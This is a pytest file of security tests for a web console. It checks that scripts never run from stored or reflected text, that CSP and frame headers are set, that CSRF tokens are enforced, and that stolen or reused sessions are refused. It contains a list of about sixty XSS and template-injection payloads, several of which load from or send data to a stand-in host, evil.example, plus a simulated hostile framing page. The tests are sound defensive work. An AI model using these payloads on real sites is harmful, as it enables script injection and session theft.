"""Attacks on the console: scripts in every text, forms of other sites, frames, stolen and reused sessions, roles."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import expect

from soulkeeper.domain.approvals.approval import Status
from soulkeeper.domain.authority import Asker
from soulkeeper.domain.reflection.session import Message, MessageRole
from soulkeeper.domain.souls.address import address
from soulkeeper.faces.browser import cookie_name, csrf_token
from soulkeeper.services import decisions, gaps, logins, sessions, souls, tokens
from tests.browser.conftest import OWNER, TEXT, Console

EVENTS = ("onload", "onerror", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/leak>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</pre><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}", "{% include 'base.html' %}", "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{alert(1)}",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<math><mi xlink:href='data:x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1)>", "<img src='x' style='background:url(//evil.example)'>",
    "<isindex action=javascript:alert(1)>", "![x](//evil.example/leak.png)", "[x](javascript:alert(1))",
    "<!--<img src=x onerror=alert(1)>-->", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script/x>alert(1)</script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "<img/src=x/onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", *(f"<b {event}=alert(1)>x</b>" for event in EVENTS),
]  # fmt: skip


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


def test_no_payload_runs_in_any_text_that_reaches_a_page(console: Console, page: Any) -> None:
    """The page fixture fails the test for a dialog, a refused script, an error or a request to another host."""
    soul, everything = console.soul(), "\n".join(f"- {payload}" for payload in PAYLOADS)
    hostile = TEXT.format(name=soul.title()) + f"\n## Notes <script>alert(1)</script>\n\n{everything}\n"
    souls.edit(console.ports, OWNER, address(soul), hostile, reason=PAYLOADS[0] + PAYLOADS[2])
    asked = console.propose(soul, f"Say {' '.join(PAYLOADS[::12])}", reason="\n".join(PAYLOADS[:30]))
    denied = console.propose(soul, "Say <u>less</u>", reason="\n".join(PAYLOADS[30:]))
    decisions.deny(console.ports, OWNER, denied.id, words="\n".join(PAYLOADS))
    gaps.open_gap(console.ports, Asker(soul, "mcp"), soul, "tone", " ".join(PAYLOADS))
    sessions.log(
        console.ports, [message(console, soul, number, text) for number, text in enumerate(PAYLOADS)], limited=False
    )
    tokens.create(console.ports, OWNER, tokens.Role.READER, name="<img src=x onerror=alert(1)>")
    paths = [f"/queue/{asked.id}", f"/queue/{denied.id}", f"/queue/{asked.id}/edit", "/queue/batch", "/settings"]
    paths += [
        f"/souls/{soul}{tab}" for tab in ("", "/history?from=1&to=2", "/history?blame=1", "/prompt", "/rollback?to=1")
    ]
    paths += [
        f"/agents/{soul}/gaps",
        f"/agents/{soul}/sessions",
        f"/agents/{soul}/sessions/s1",
        "/settings/audit?kind=approval",
    ]
    for place in ("/souls?q=", "/queue?sort=", "/souls/", "/souls/+adopt?path="):
        paths += [place + quote(PAYLOADS[18])]
    shown = ""
    for path in paths:
        page.goto(path)
        shown += page.content()
        assert page.locator(FOREIGN).count() == 0, path
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "{{ 7 * 7 }}" in shown


FOREIGN = "main script, main iframe, main img:not([src^='/static/']), main base, main meta"


def message(console: Console, agent: str, number: int, text: str) -> Message:
    role = MessageRole.PERSON if number % 2 else MessageRole.AGENT
    at = console.ports.now() - timedelta(minutes=90 - number)
    return Message(id=f"m{number}", agent=agent, session="s1", role=role, speaker="<b>rob</b>", text=text, at=at)


def headers_of(console: Console, path: str = "/queue") -> httpx.Headers:
    return httpx.get(console.url + path, headers={"accept": "text/html"}).headers


def test_every_answer_forbids_inline_scripts_frames_and_other_hosts(console: Console) -> None:
    policy = headers_of(console)["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert headers_of(console)["x-frame-options"] == "DENY"
    assert headers_of(console, "/static/console.js")["content-security-policy"] == policy


@dataclass(frozen=True)
class Session:
    """A program with the cookie of a new session, and the CSRF token of its forms."""

    url: str
    cookies: dict[str, str]
    csrf: str

    def __call__(self, method: str, path: str, **more: Any) -> httpx.Response:
        return httpx.request(
            method, self.url + path, headers={"cookie": self.cookie, **more.pop("headers", {})}, **more
        )

    @property
    def cookie(self) -> str:
        return "; ".join(f"{name}={value}" for name, value in self.cookies.items())


def session(console: Console) -> Session:
    _, secret = logins.log_in(console.ports, tokens.invite(console.ports, OWNER), door="web", browser="test")
    return Session(console.url, {cookie_name(console.url): secret}, csrf_token(secret))


def test_a_form_without_the_token_of_its_session_changes_nothing(console: Console) -> None:
    asked = console.propose(console.soul())
    client, other = session(console), session(console).csrf
    csrf = client.csrf
    path = f"/queue/{asked.id}/approve"
    for sent in ({}, {"csrf": ""}, {"csrf": "0" * 32}, {"csrf": other}):
        assert client("POST", path, data={"code": asked.review_code, **sent}).status_code == 403
    strange = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate"}
    assert client("POST", path, data={"code": asked.review_code, "csrf": csrf}, headers=strange).status_code == 403
    evil = {"origin": "https://evil.example"}
    assert client("POST", path, data={"code": asked.review_code, "csrf": csrf}, headers=evil).status_code == 403
    assert decisions.find(console.ports, asked.id).status is Status.PENDING
    assert client("POST", path, data={"code": asked.review_code, "csrf": csrf}).status_code == 303
    assert decisions.find(console.ports, asked.id).status is Status.APPLIED


def test_the_api_accepts_the_cookie_only_from_our_own_pages(console: Console) -> None:
    client = session(console)
    ours = {"sec-fetch-site": "same-origin"}
    assert client("GET", "/api/v1/souls").status_code == 401
    assert client("GET", "/api/v1/souls", headers={"sec-fetch-site": "none"}).status_code == 401
    assert client("GET", "/api/v1/souls", headers=ours).status_code == 200
    assert client("POST", "/api/v1/souls", json={"id": "sneaky"}, headers=ours).status_code == 401
    written = client("POST", "/api/v1/souls", json={"id": "honest"}, headers={**ours, "x-csrf-token": client.csrf})
    assert written.status_code == 201


def test_a_page_of_another_site_can_neither_frame_nor_post(console: Console) -> None:
    asked = console.propose(console.soul())
    target = f"{console.url}/queue/{asked.id}"
    trap = f"""<iframe src="{target}"></iframe>
        <form method="post" action="{target}/approve"><input name="code" value="{asked.review_code}"></form>"""
    with console.browser.new_context(base_url=console.url) as context:
        console.log_in(context)
        page = context.new_page()
        page.route("http://evil.example/", lambda route: route.fulfill(body=trap, content_type="text/html"))
        page.goto("http://evil.example/")
        assert "Approve" not in page.frames[1].content()
        with page.expect_navigation() as answer:
            page.evaluate("document.forms[0].submit()")
        assert answer.value.status == 403
    assert decisions.find(console.ports, asked.id).status is Status.PENDING


def test_a_login_link_works_once_and_a_guess_never(console: Console, visitor: Callable[..., Any]) -> None:
    link, second = console.link(), visitor(login=False)
    assert httpx.get(link, headers={"accept": "text/html"}).status_code == 200
    assert second.goto(link).status == 403
    expect(second.get_by_role("alert")).to_contain_text("already used")
    assert second.request.get("/queue").status == 401
    assert second.request.get("/login?once=soul_guess", headers={"accept": "text/html"}).status == 403


def test_a_cookie_set_beforehand_is_replaced_at_login(console: Console, visitor: Callable[..., Any]) -> None:
    page, name = visitor(login=False), cookie_name(console.url)
    page.context.add_cookies([{"name": name, "value": "fixed-by-another", "url": console.url}])
    assert page.request.get("/queue").status == 401
    page.goto(console.link())
    page.wait_for_url("**/queue")
    (cookie,) = [one for one in page.context.cookies() if one["name"] == name]
    assert cookie["value"] != "fixed-by-another"
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert page.evaluate("document.cookie") == ""


def test_a_session_ends_when_it_is_logged_out_or_its_token_is_revoked(
    console: Console, visitor: Callable[..., Any]
) -> None:
    page, stolen = visitor(), visitor(login=False)
    stolen.context.add_cookies(page.context.cookies())
    assert stolen.request.get("/queue").status == 200
    page.goto("/design")
    page.get_by_role("button", name="Log out").click()
    page.wait_for_url("**/login")
    assert stolen.request.get("/queue").status == 401
    created, secret = tokens.create(console.ports, OWNER, tokens.Role.REVIEWER, name="rob")
    page.get_by_label("Token").fill(secret)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/queue")
    assert secret not in [cookie["value"] for cookie in page.context.cookies()]
    tokens.revoke(console.ports, OWNER, created.id)
    assert page.request.get("/queue").status == 401


def test_an_agents_token_and_an_unused_link_are_not_accepted_as_cookies(console: Console) -> None:
    _, secret = tokens.create(console.ports, OWNER, tokens.Role.AGENT, agent=console.soul())
    for value in (secret, tokens.invite(console.ports, OWNER), "guess"):
        assert Session(console.url, {cookie_name(console.url): value}, "")("GET", "/queue").status_code == 401


@pytest.mark.parametrize(
    ("role", "allowed", "refused"),
    [
        ("reader", ("/souls", "/souls/default/history"), ("/queue", "/souls/+new", "/queue/pulse", "/souls/+adopt")),
        ("reviewer", ("/souls", "/queue"), ("/souls/+new", "/souls/default/rollback?to=1", "/agents/default/gaps")),
    ],
)
def test_roles_are_respected_in_every_page(
    console: Console, visitor: Callable[..., Any], role: str, allowed: tuple[str, ...], refused: tuple[str, ...]
) -> None:
    page = visitor(token=console.token(role))
    assert [page.request.get(path).status for path in allowed] == [200] * len(allowed)
    assert [page.request.get(path).status for path in refused] == [403] * len(refused)
    page.goto("/souls/default")
    expect(page.get_by_role("button", name="Save")).to_have_count(0)


def test_a_used_link_leads_whoever_is_logged_in_to_the_console(console: Console, visitor: Callable[..., Any]) -> None:
    link, page = console.link(), visitor(login=False)
    page.goto(link)
    page.wait_for_url("**/queue")
    page.goto(link)
    page.get_by_role("link", name="open the console").click()
    page.wait_for_url("**/queue")
    assert "open the console" not in visitor(login=False).request.get("/login").text()


def test_an_agents_token_opens_no_session(console: Console, visitor: Callable[..., Any]) -> None:
    soul = console.soul()
    _, secret = tokens.create(console.ports, OWNER, tokens.Role.AGENT, agent=soul)
    answer = visitor(login=False).request.post("/login", form={"token": secret})
    assert answer.status == 403
    assert "invalid, expired or already used" in answer.text()


def test_a_link_from_another_site_reaches_the_page_with_the_session(console: Console) -> None:
    """A strict cookie is not sent: the page repeats the request from our own site instead of showing the login."""
    client = session(console)
    strange = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "accept": "text/html"}
    without = httpx.get(f"{console.url}/queue?sort=held", headers=strange)
    assert re.search(r'http-equiv="refresh" content="0;url=/queue\?sort=held"', without.text)
    assert client("GET", "/queue", headers={"sec-fetch-site": "same-origin"}).status_code == 200
